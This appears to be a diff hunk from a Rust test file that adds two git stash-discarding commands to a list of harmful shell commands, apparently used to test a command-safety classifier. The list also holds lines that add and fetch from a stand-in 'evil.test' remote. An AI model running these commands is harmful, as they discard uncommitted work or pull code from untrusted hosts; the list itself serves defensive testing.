@@ -7,6 +7,8 @@ use house::verdict;
 
 /// Each deletes the home folder or the repository, or runs code that nobody read, in some run of a real bash.
 const HARM: &[&str] = &[
+    "git stash -u; git stash drop",
+    "git stash && git stash clear",
     "git remote add evil https://evil.test/x && git fetch evil",
     "git remote set-url origin https://evil.test/x && git ls-remote origin",
     "curl https://api.github.com/users/$FOO",
